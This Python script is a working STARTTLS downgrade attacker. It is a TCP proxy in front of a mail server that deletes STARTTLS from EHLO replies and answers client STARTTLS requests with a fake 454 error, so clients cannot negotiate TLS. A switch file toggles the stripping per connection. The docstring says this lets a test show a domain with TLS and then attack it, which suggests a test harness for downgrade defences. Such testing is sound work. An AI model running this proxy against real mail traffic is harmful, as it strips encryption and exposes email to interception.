#!/usr/bin/python3
"""The STARTTLS downgrade attacker: a TCP proxy in front of a TLS-capable
MX that deletes STARTTLS from the EHLO reply and answers a STARTTLS command
itself with 454, so the client can never negotiate TLS through it.

With --switch FILE the attack is switched on and off while the proxy runs:
a connection accepted while FILE exists is stripped, any other is passed
through untouched (bytes copied both ways), so a test can let a domain be
seen with TLS first and then attack it."""
import argparse
import os
import signal
import socket
import sys
import threading


def close_both(a, b):
    for s in (a, b):
        try:
            s.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass


def pump_server_to_client(server, client):
    buf = b""
    try:
        while True:
            data = server.recv(65536)
            if not data:
                break
            buf += data
            lines = buf.split(b"\r\n")
            buf = lines.pop()
            out = []
            for line in lines:
                if line[4:].upper().startswith(b"STARTTLS"):
                    # If STARTTLS was the last line, the line before it
                    # becomes the last.
                    if line[3:4] == b" " and out and out[-1][3:4] == b"-":
                        out[-1] = out[-1][:3] + b" " + out[-1][4:]
                    continue
                out.append(line)
            client.sendall(b"".join(l + b"\r\n" for l in out))
    except OSError:
        pass
    finally:
        close_both(client, server)


def pump_client_to_server(client, server):
    buf = b""
    try:
        while True:
            data = client.recv(65536)
            if not data:
                break
            buf += data
            while b"\r\n" in buf:
                line, buf = buf.split(b"\r\n", 1)
                if line.strip().upper() == b"STARTTLS":
                    client.sendall(b"454 4.7.0 TLS not available due to local problem\r\n")
                    continue
                server.sendall(line + b"\r\n")
    except OSError:
        pass
    finally:
        close_both(client, server)


def pump_raw(src, dst):
    try:
        while True:
            data = src.recv(65536)
            if not data:
                break
            dst.sendall(data)
    except OSError:
        pass
    finally:
        close_both(src, dst)


def main():
    p = argparse.ArgumentParser()
    p.add_argument("--listen", required=True)
    p.add_argument("--upstream", required=True)
    p.add_argument("--switch", help="strip only while this file exists")
    args = p.parse_args()
    lh, lp = args.listen.rsplit(":", 1)
    uh, up = args.upstream.rsplit(":", 1)
    listener = socket.socket()
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    listener.bind((lh, int(lp)))
    listener.listen(64)
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(0))
    print("ready", flush=True)
    while True:
        client, _ = listener.accept()
        try:
            server = socket.create_connection((uh, int(up)), timeout=10)
            server.settimeout(None)
        except OSError:
            client.close()
            continue
        if args.switch and not os.path.exists(args.switch):
            threading.Thread(target=pump_raw, args=(server, client), daemon=True).start()
            threading.Thread(target=pump_raw, args=(client, server), daemon=True).start()
            continue
        threading.Thread(target=pump_server_to_client, args=(server, client), daemon=True).start()
        threading.Thread(target=pump_client_to_server, args=(client, server), daemon=True).start()


if __name__ == "__main__":
    main()
